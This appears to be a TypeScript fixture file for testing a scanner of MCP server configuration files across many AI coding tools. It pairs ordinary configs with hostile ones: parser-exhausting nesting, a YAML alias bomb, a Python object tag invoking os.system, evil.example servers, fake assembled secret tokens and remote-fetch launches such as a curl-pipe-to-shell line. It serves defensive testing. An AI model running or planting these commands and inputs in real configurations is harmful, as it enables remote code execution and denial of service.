/** Values that look like secrets, put together here so that no file holds one and no scanner stumbles over this repository. */
const letters = (count: number) => "aB3dE6gH9jK2mN5pQ8sT1vW4xY7zC0fR".repeat(8).slice(0, count);
export const SECRETS = {
  github: ["gh", "p_", letters(36)].join(""),
  finegrained: ["github", "_pat_", letters(40)].join(""),
  anthropic: ["sk", "-ant-", letters(40)].join(""),
  openai: ["sk", "-proj-", letters(40)].join(""),
  slack: ["xo", "xb-", "123456789012-", letters(24)].join(""),
  aws: ["AK", "IA", "QWERTYUIOPASDFGH"].join(""),
  google: ["AI", "za", letters(35)].join(""),
  gitlab: ["gl", "pat-", letters(24)].join(""),
  npm: ["np", "m_", letters(36)].join(""),
  jwt: ["ey", "J", letters(20), ".ey", "J", letters(30), ".", letters(30)].join(""),
  password: ["cor", "rect-", "horse9"].join(""),
  random: letters(32),
};

const DIGEST = "0123456789abcdef".repeat(4);
const COMMIT = "0123456789abcdef0123456789abcdef01234567";

export interface Fixture {
  about: string;
  path: string;
  text: string;
  /** `name transport line`, one each. */
  servers: string[];
  /** Names of servers that fetch code without a pin. */
  unpinned?: string[];
  /** `line key`, `line` where it stands in no setting. */
  credentials?: string[];
  /** Lines of problems. */
  problems?: number[];
}

/** Ordinary files, one or more for each tool of the table, as its documentation writes them. */
export const valid: Fixture[] = [
  {
    about: "Claude Code, project file with all three transports",
    path: ".mcp.json",
    text: `{
  "mcpServers": {
    "files": {
      "command": "npx",
      "args": ["-y", "@modelcontextprotocol/server-filesystem@2025.8.21", "."]
    },
    "tracker": {
      "type": "http",
      "url": "https://tracker.acme.dev/mcp",
      "headers": { "Authorization": "Bearer \${TRACKER_TOKEN}" }
    },
    "old": { "type": "sse", "url": "https://old.acme.dev/sse" }
  }
}`,
    servers: ["files stdio 3", "tracker http 7", "old sse 12"],
  },
  {
    about: "a plugin's project file without a key around the servers",
    path: "plugins/review/.mcp.json",
    text: `{"db": {"command": "\${CLAUDE_PLUGIN_ROOT}/db", "args": ["--ro"], "env": {"DB_PASSWORD": "\${DB_PASSWORD:-}"}}}`,
    servers: ["db stdio 1"],
  },
  {
    about: "Claude Code's user file checked in, with servers of a project",
    path: ".claude.json",
    text: `{
  "projects": { "/home/ada/shop": { "mcpServers": { "a": { "command": "a-server" } } } },
  "mcpServers": { "b": { "command": "b-server" } }
}`,
    servers: ["b stdio 3", "a stdio 2"],
  },
  {
    about: "Claude Code plugin manifest",
    path: ".claude-plugin/plugin.json",
    text: `{"name": "x", "version": "1.0.0", "mcpServers": {"x": {"command": "node", "args": ["\${CLAUDE_PLUGIN_ROOT}/server.js"]}}}`,
    servers: ["x stdio 1"],
  },
  {
    about: "Claude Code subagent; a name refers to a server configured elsewhere",
    path: ".claude/agents/triage.md",
    text: `---
name: triage
mcpServers:
  - tracker
  - slack:
      type: http
      url: https://slack.acme.dev/mcp
---
Sort the issues.
`,
    servers: ["slack http 5"],
  },
  {
    about: "Cursor, with an interpolated secret",
    path: ".cursor/mcp.json",
    text: `{"mcpServers": {"pg": {"command": "uvx", "args": ["postgres-mcp@0.3.0"],
 "env": {"DATABASE_URI": "postgresql://app:\${env:PG_PASSWORD}@db/shop"}}}}`,
    servers: ["pg stdio 1"],
  },
  {
    about: "VS Code, with inputs and comments",
    path: ".vscode/mcp.json",
    text: `{
  // asked for when it starts
  "inputs": [{ "type": "promptString", "id": "api-key", "description": "API key", "password": true }],
  "servers": {
    "search": { "type": "stdio", "command": "npx", "args": ["-y", "search-mcp@1.4.0"], "env": { "API_KEY": "\${input:api-key}" } },
    "github": { "type": "http", "url": "https://api.githubcopilot.com/mcp/" },
  },
}`,
    servers: ["search stdio 5", "github http 6"],
  },
  {
    about: "VS Code settings, both spellings of the key",
    path: ".vscode/settings.json",
    text: `{
  "editor.tabSize": 2,
  "mcp": { "servers": { "one": { "command": "one" } } },
  "mcp.servers": { "two": { "command": "two" } }
}`,
    servers: ["one stdio 3", "two stdio 4"],
  },
  {
    about: "a development container",
    path: ".devcontainer/devcontainer.json",
    text: `{"image": "mcr.microsoft.com/devcontainers/base:1", "customizations": {"vscode": {"mcp": {"servers": {"p": {"command": "p"}}}}}}`,
    servers: ["p stdio 1"],
  },
  {
    about: "GitHub Copilot custom agent",
    path: ".github/agents/tester.agent.md",
    text: `---
name: tester
tools: ["read", "custom/*"]
mcp-servers:
  custom:
    type: local
    command: some-command
    args: ["--arg1"]
    tools: ["*"]
    env:
      API_KEY: \${{ secrets.COPILOT_MCP_API_KEY }}
      OTHER_TOKEN: $COPILOT_MCP_OTHER
      THIRD_TOKEN: COPILOT_MCP_THIRD
---
You test.
`,
    servers: ["custom stdio 5"],
  },
  {
    about: "Copilot's command line",
    path: ".copilot/mcp-config.json",
    text: `{"mcpServers": {"play": {"type": "local", "command": "npx", "args": ["@playwright/mcp@0.0.40"], "tools": ["*"]}}}`,
    servers: ["play stdio 1"],
  },
  {
    about: "GitHub Agentic Workflow with a container",
    path: ".github/workflows/triage.md",
    text: `---
on: {issues: {types: [opened]}}
permissions: read-all
mcp-servers:
  notion:
    container: "mcp/notion@sha256:${DIGEST}"
    env:
      NOTION_TOKEN: "\${{ secrets.NOTION_TOKEN }}"
    allowed: ["search_pages"]
  docs:
    url: "https://docs.acme.dev/mcp"
    headers:
      Authorization: "Bearer \${{ secrets.DOCS_TOKEN }}"
---
# Triage
`,
    servers: ["notion stdio 5", "docs http 10"],
  },
  {
    about: "Windsurf, whose address key is its own",
    path: ".windsurf/mcp_config.json",
    text: `{"mcpServers": {"zap": {"serverUrl": "https://zap.acme.dev/mcp", "headers": {"API_KEY": "Bearer \${env:ZAP}"}}}}`,
    servers: ["zap http 1"],
  },
  {
    about: "Cline",
    path: ".cline/cline_mcp_settings.json",
    text: `{"mcpServers": {"l": {"command": "node", "args": ["server.js"], "alwaysAllow": [], "disabled": true}}}`,
    servers: ["l stdio 1"],
  },
  {
    about: "Roo Code",
    path: ".roo/mcp.json",
    text: `{"mcpServers": {"r": {"type": "streamable-http", "url": "https://r.acme.dev/mcp", "headers": {"X-Token": "\${env:R_TOKEN}"}}}}`,
    servers: ["r http 1"],
  },
  {
    about: "Kilo Code",
    path: ".kilo/kilo.jsonc",
    text: `{"mcp": {"k": {"type": "local", "command": ["bunx", "k-mcp@2.0.1"], "environment": {"MODE": "ro"}}}}`,
    servers: ["k stdio 1"],
  },
  {
    about: "Gemini CLI",
    path: ".gemini/settings.json",
    text: `{"theme": "GitHub", "mcpServers": {
 "h": {"httpUrl": "https://h.acme.dev/mcp", "timeout": 5000},
 "p": {"command": "python", "args": ["-m", "p"], "cwd": "./p", "env": {"KEY": "$P_KEY"}}}}`,
    servers: ["h http 2", "p stdio 3"],
  },
  {
    about: "Codex, with tables, an inline table and variables by name",
    path: ".codex/config.toml",
    text: `model = "gpt-5"

[mcp_servers.docs]
command = "npx"
args = ["-y", "docs-mcp@3.1.4"]
env = { "LOG" = "info" }

[mcp_servers.docs.env_http_headers]
"X-Api-Key" = "DOCS_API_KEY"

[mcp_servers."figma dev"]
url = "https://mcp.figma.com/mcp"
bearer_token_env_var = "FIGMA_OAUTH_TOKEN"
`,
    servers: ["docs stdio 3", "figma dev http 11"],
  },
  {
    about: "opencode, a command as a list",
    path: "opencode.json",
    text: `{"$schema": "https://opencode.ai/config.json", "mcp": {
 "l": {"type": "local", "command": ["node", "tools/mcp.js"], "enabled": true, "environment": {"A_TOKEN": "{env:A_TOKEN}"}},
 "r": {"type": "remote", "url": "https://r.acme.dev/mcp", "headers": {"Authorization": "Bearer {env:R_KEY}"}}}}`,
    servers: ["l stdio 2", "r http 3"],
  },
  {
    about: "opencode's later format",
    path: ".opencode/opencode.jsonc",
    text: `{"mcp": {"servers": {"s": {"type": "local", "command": ["s"]}}}}`,
    servers: ["s stdio 1"],
  },
  {
    about: "Amp",
    path: ".amp/settings.json",
    text: `{"amp.mcpServers": {"sg": {"url": "https://sg.acme.dev/.api/mcp", "headers": {"Authorization": "token \${SG_TOKEN}"}}}}`,
    servers: ["sg http 1"],
  },
  {
    about: "Continue, a block",
    path: ".continue/mcpServers/play.yaml",
    text: `name: Playwright
version: 0.0.1
schema: v1
mcpServers:
  - name: Browser
    command: npx
    args:
      - "@playwright/mcp@0.0.40"
    env:
      KEY: \${{ secrets.KEY }}
  - name: Remote
    type: streamable-http
    url: https://r.acme.dev/mcp
`,
    servers: ["Browser stdio 5", "Remote http 11"],
  },
  {
    about: "settings in a map of their own, and a word where others have that map",
    path: ".continue/mcpServers/older.yaml",
    text: `mcpServers:
  - name: Wrapped
    transport: {type: stdio, command: npx, args: ["-y", "some-server"]}
  - name: Remote
    config:
      url: https://r.acme.dev/mcp
      headers: {Authorization: "Bearer ${SECRETS.github}"}
  - name: Word
    transport: sse
    url: https://w.acme.dev/mcp
`,
    servers: ["Wrapped stdio 2", "Remote http 4", "Word sse 8"],
    unpinned: ["Wrapped"],
    credentials: ["7 Authorization"],
  },
  {
    about: "goose; what comes with the tool is no server of the file",
    path: ".goose/config.yaml",
    text: `extensions:
  developer: {enabled: true, type: builtin, name: developer}
  fetch:
    enabled: true
    type: stdio
    cmd: uvx
    args: [mcp-server-fetch==2025.4.7]
    env_keys: [FETCH_TOKEN]
  hosted: {type: streamable_http, uri: "https://h.acme.dev/mcp"}
`,
    servers: ["fetch stdio 3", "hosted http 9"],
  },
  {
    about: "Zed, old and new format",
    path: ".zed/settings.json",
    text: `{"context_servers": {
 "old": {"command": {"path": "old-server", "args": ["--x"], "env": {"A": "1"}}},
 "new": {"source": "custom", "command": "new-server", "args": []}}}`,
    servers: ["old stdio 2", "new stdio 3"],
  },
  {
    about: "Junie",
    path: ".junie/mcp/mcp.json",
    text: `{"mcpServers": {"boost": {"command": "php", "args": ["./artisan", "boost:mcp"]}}}`,
    servers: ["boost stdio 1"],
  },
  {
    about: "Kiro",
    path: ".kiro/settings/mcp.json",
    text: `{"mcpServers": {"aws": {"command": "uvx", "args": ["awslabs.aws-documentation-mcp-server==1.1.0"], "autoApprove": []}}}`,
    servers: ["aws stdio 1"],
  },
  {
    about: "Amazon Q, an agent",
    path: ".amazonq/cli-agents/dev.json",
    text: `{"name": "dev", "mcpServers": {"fetch": {"command": "fetch3.1", "args": []}}, "tools": ["*"]}`,
    servers: ["fetch stdio 1"],
  },
  {
    about: "Crush, with a variable in the shell's way",
    path: "crush.json",
    text: `{"mcp": {"gh": {"type": "http", "url": "https://api.githubcopilot.com/mcp/", "headers": {"Authorization": "$(echo Bearer $GH_PAT)"}}}}`,
    servers: ["gh http 1"],
  },
  {
    about: "Warp",
    path: ".warp/.mcp.json",
    text: `{"mcpServers": {"w": {"command": "w", "working_directory": null}}}`,
    servers: ["w stdio 1"],
  },
  {
    about: "Factory",
    path: ".factory/mcp.json",
    text: `{"mcpServers": {"linear": {"type": "http", "url": "https://mcp.linear.app/mcp", "disabled": false}}}`,
    servers: ["linear http 1"],
  },
  {
    about: "Docker's catalogue",
    path: ".docker/mcp/catalogs/own.yaml",
    text: `version: 2
registry:
  time:
    description: Time
    image: mcp/time@sha256:${DIGEST}
    secrets:
      - {name: time.api_key, env: TIME_API_KEY}
`,
    servers: ["time stdio 3"],
  },
  {
    about: "a settings file that configures no server",
    path: ".gemini/settings.json",
    text: `{"theme": "Default"}`,
    servers: [],
  },
  {
    about: "Markdown without front matter",
    path: ".github/workflows/README.md",
    text: "# Workflows\n\n---\n\nThey build.\n",
    servers: [],
  },
];

/** Files that want to be misread, and files that hold what they should not. */
export const hostile: Fixture[] = [
  {
    about: "nesting that exhausts a stack",
    path: ".mcp.json",
    text: `{"mcpServers": ${"[".repeat(50_000)}`,
    servers: [],
    problems: [1],
  },
  {
    about: "nesting in YAML",
    path: ".continue/config.yaml",
    text: `mcpServers: ${"[".repeat(5_000)}`,
    servers: [],
    problems: [1],
  },
  {
    about: "nesting in TOML",
    path: ".codex/config.toml",
    text: `a = ${"[".repeat(20_000)}`,
    servers: [],
    problems: [1],
  },
  {
    about: "too large",
    path: ".mcp.json",
    text: `{"a": "${"x".repeat(300_000)}"}`,
    servers: [],
    problems: [1],
  },
  {
    about: "too many values",
    path: ".mcp.json",
    text: `{"mcpServers": {"a": {"command": "a", "args": [${"1,".repeat(30_000)}1]}}}`,
    servers: [],
    problems: [1],
  },
  {
    about: "a server under a name that stands there twice: both are seen",
    path: ".mcp.json",
    text: `{"mcpServers": {
  "a": {"command": "good"},
  "a": {"command": "npx", "args": ["evil"]}
}}`,
    servers: ["a stdio 2", "a stdio 3"],
    unpinned: ["a"],
    problems: [3],
  },
  {
    about: "the whole collection twice",
    path: ".mcp.json",
    text: `{"mcpServers": {"a": {"command": "a"}},\n"mcpServers": {"b": {"command": "b"}}}`,
    servers: ["a stdio 1", "b stdio 2"],
    problems: [2],
  },
  {
    about: "a byte order mark",
    path: ".mcp.json",
    text: `\uFEFF{"mcpServers": {"a": {"command": "a"}}}`,
    servers: ["a stdio 1"],
  },
  {
    about: "a server named like a prototype",
    path: ".mcp.json",
    text: `{"mcpServers": {"__proto__": {"url": "https://evil.example/sse"}, "constructor": {"command": "c"}}}`,
    servers: ["__proto__ sse 1", "constructor stdio 1"],
  },
  {
    about: "another spelling of the key, in a file of another name's case",
    path: "Tools/.MCP.json",
    text: `{"MCPSERVERS": {"a": {"Command": "a"}}}`,
    servers: ["a stdio 1"],
  },
  {
    about: "text after a mistake",
    path: ".mcp.json",
    text: `{"mcpServers": {"a": {"command": "a"}},\n oops\n "servers": {"b": {"command": "b"}}}`,
    servers: ["a stdio 1", "b stdio 3"],
    problems: [2],
  },
  {
    about: "anchors and merge keys",
    path: ".continue/config.yaml",
    text: `defaults: &base
  command: npx
  args: [-y, "server@latest"]
mcpServers:
  - name: hidden
    <<: *base
`,
    servers: ["hidden stdio 5"],
    unpinned: ["hidden"],
  },
  {
    about: "an expansion of aliases without end",
    path: ".continue/config.yaml",
    text: `a: &a [x, x, x, x, x, x, x, x, x, x]\n${"bcdefg"
      .split("")
      .map((name, index) => `${name}: &${name} [${Array(10).fill(`*${"abcdef"[index]}`).join(", ")}]`)
      .join("\n")}`,
    servers: [],
    problems: [1],
  },
  {
    about: "an alias of itself",
    path: ".continue/config.yaml",
    text: "mcpServers: &a\n  - *a\n",
    servers: [],
    problems: [2, 2],
  },
  {
    about: "a tag that builds an object",
    path: ".continue/config.yaml",
    text: `mcpServers:\n  - name: a\n    command: !!python/object/apply:os.system ["x"]\n`,
    servers: ["a stdio 2"],
    problems: [3],
  },
  {
    about: "a second YAML document",
    path: ".continue/config.yaml",
    text: "mcpServers: []\n---\nmcpServers: [{name: b, command: b}]\n",
    servers: ["b stdio 3"],
  },
  {
    about: "front matter that never ends",
    path: ".github/agents/a.md",
    text: "---\nmcp-servers:\n  a: {command: a}\n",
    servers: [],
    problems: [1],
  },
  {
    about: "shapes that no tool knows",
    path: ".mcp.json",
    text: `{"mcpServers": {"a": "https://a.example",\n"b": ["npx"],\n"c": {"command": {"x": 1}}}}`,
    servers: ["c unknown 3"],
    problems: [1, 2, 3],
  },
  {
    about: "a file that is no map at all",
    path: ".cursor/mcp.json",
    text: `["npx", "evil"]`,
    servers: [],
    problems: [1],
  },
  {
    about: "a dedicated file under unknown keys",
    path: ".cursor/mcp.json",
    text: `{"toolServers": {"a": {"command": "a"}}}`,
    servers: [],
    problems: [1],
  },
  {
    about: "servers that stand in another file",
    path: ".claude-plugin/plugin.json",
    text: `{"name": "x",\n "mcpServers": "./hidden.json"}`,
    servers: [],
    problems: [2],
  },
  {
    about: "a switch for a server configured elsewhere",
    path: "opencode.json",
    text: `{"mcp": {"jira": {"enabled": true}}}`,
    servers: ["jira unknown 1"],
  },
  {
    about: "two commands in one server",
    path: ".mcp.json",
    text: `{"mcpServers": {"a": {"command": "good", "cmd": "evil"}}}`,
    servers: ["a stdio 1"],
    problems: [1],
  },
  {
    about: "keys of known forms in every place",
    path: ".mcp.json",
    text: `{
  // was: ${SECRETS.gitlab}
  "mcpServers": {
    "a": {
      "command": "a",
      "args": ["--token", "${SECRETS.github}", "--key=${SECRETS.google}"],
      "env": {
        "ANY": "${SECRETS.slack}",
        "AWS": "${SECRETS.aws}"
      }
    },
    "b": {
      "url": "https://b.example/mcp?api_key=${SECRETS.random}",
      "headers": { "Authorization": "Bearer ${SECRETS.jwt}" }
    }
  }
}`,
    servers: ["a stdio 4", "b http 12"],
    credentials: ["6 --token", "6 key", "8 ANY", "9 AWS", "13 url", "14 Authorization", "2"],
  },
  {
    about: "literal values under telling names",
    path: ".vscode/mcp.json",
    text: `{"servers": {"a": {"command": "a", "args": ["-e", "DB_PASSWORD=${SECRETS.password}"],
"env": {
  "API_KEY": "${SECRETS.random}",
  "CLIENT_SECRET": "${SECRETS.password}",
  "API_TOKEN": "\${API_TOKEN:-${SECRETS.password}}",
  "MAX_TOKENS": "4096",
  "KEY_FILE": "/etc/keys/a.pem",
  "OTHER_TOKEN": "<your-token>"
}}}}`,
    servers: ["a stdio 1"],
    credentials: ["1 DB_PASSWORD", "3 API_KEY", "4 CLIENT_SECRET", "5 API_TOKEN"],
  },
  {
    about: "user and password in addresses",
    path: ".cursor/mcp.json",
    text: `{"mcpServers": {"a": {"url": "https://ada:${SECRETS.password}@a.example/mcp"},
"b": {"command": "b", "env": {"DSN": "postgres://app:${SECRETS.password}@db/x",
"CONN": "Server=db;User=app;Password=${SECRETS.password};"}}}}`,
    servers: ["a http 1", "b stdio 2"],
    credentials: ["1 url", "2 DSN", "3 CONN"],
  },
  {
    about: "a key spelled with escapes",
    path: ".mcp.json",
    text: `{"mcpServers": {"a": {"command": "a", "env": {"X": "\\u0067${SECRETS.github.slice(1)}"}}}}`,
    servers: ["a stdio 1"],
    credentials: ["1 X"],
  },
  {
    about: "keys in TOML, and one in what cannot be read",
    path: ".codex/config.toml",
    text: `[mcp_servers.a]\nurl = "https://a.example/mcp"\nhttp_headers = { Authorization = "Bearer ${SECRETS.openai}" }\n`,
    servers: ["a http 1"],
    credentials: ["3 Authorization"],
  },
  {
    about: "a key in a file that cannot be read",
    path: ".codex/config.toml",
    text: `[mcp_servers.a\ntoken = "${SECRETS.anthropic}"\n`,
    servers: [],
    problems: [2],
    credentials: ["2"],
  },
  {
    about: "keys in the prose below the front matter",
    path: ".github/workflows/a.md",
    text: `---\non: push\n---\nUse ${SECRETS.finegrained} for it.\n`,
    servers: [],
    credentials: ["4"],
  },
  {
    about: "a key as the name of a server and of a setting",
    path: ".mcp.json",
    text: `{"mcpServers": {"${SECRETS.npm}": {"url": "https://evil.example/mcp",
"headers": {"${SECRETS.github}": "x"}}}}`,
    servers: [`${SECRETS.npm} http 1`],
    credentials: ["1", "2"],
  },
  {
    about: "launches that fetch whatever there is",
    path: ".mcp.json",
    text: `{"mcpServers": {
"npx": {"command": "npx", "args": ["-y", "a"]},
"range": {"command": "npx", "args": ["-y", "@s/a@^1.2.0"]},
"latest": {"command": "C:\\\\node\\\\npx.cmd", "args": ["a@latest"]},
"wrapped": {"command": "cmd", "args": ["/c", "npx", "-y", "a"]},
"shell": {"command": "bash", "args": ["-lc", "cd x && npx -y a"]},
"one-text": {"command": "npx -y a"},
"uvx": {"command": "uvx", "args": ["--from", "git+https://github.com/o/r", "a"]},
"docker": {"command": "docker", "args": ["run", "-i", "--rm", "-e", "A", "ghcr.io/o/a:1.2.3"]},
"curl": {"command": "sh", "args": ["-c", "curl -fsSL https://x.example/i.sh | sh"]},
"deno": {"command": "deno", "args": ["run", "-A", "https://x.example/mod.ts"]},
"go": {"command": "go", "args": ["run", "example.com/a@latest"]},
"with": {"command": "uvx", "args": ["--with", "b", "a==1.0.0"]}
}}`,
    servers: [
      "npx stdio 2",
      "range stdio 3",
      "latest stdio 4",
      "wrapped stdio 5",
      "shell stdio 6",
      "one-text stdio 7",
      "uvx stdio 8",
      "docker stdio 9",
      "curl stdio 10",
      "deno stdio 11",
      "go stdio 12",
      "with stdio 13",
    ],
    unpinned: [
      "npx",
      "range",
      "latest",
      "wrapped",
      "shell",
      "one-text",
      "uvx",
      "docker",
      "curl",
      "deno",
      "go",
      "with",
    ],
  },
  {
    about: "launches that say exactly what they run",
    path: ".mcp.json",
    text: `{"mcpServers": {
"npx": {"command": "npx", "args": ["-y", "@s/a@1.2.3", "--flag", "b"]},
"package": {"command": "npx", "args": ["-y", "-p", "@s/a@1.2.3-rc.1", "a"]},
"local": {"command": "npx", "args": ["--no-install", "a"]},
"uvx": {"command": "uvx", "args": ["--from", "git+https://github.com/o/r@${COMMIT}", "a"]},
"docker": {"command": "docker", "args": ["run", "-i", "--rm", "-e", "A", "ghcr.io/o/a@sha256:${DIGEST}"]},
"deno": {"command": "deno", "args": ["run", "jsr:@s/a@1.2.3"]},
"go": {"command": "go", "args": ["run", "example.com/a@v1.2.3"]},
"module": {"command": "go", "args": ["run", "./cmd/server"]},
"node": {"command": "node", "args": ["./npx.js"]}
}}`,
    servers: [
      "npx stdio 2",
      "package stdio 3",
      "local stdio 4",
      "uvx stdio 5",
      "docker stdio 6",
      "deno stdio 7",
      "go stdio 8",
      "module stdio 9",
      "node stdio 10",
    ],
  },
];

export const corpus: Fixture[] = [...valid, ...hostile];
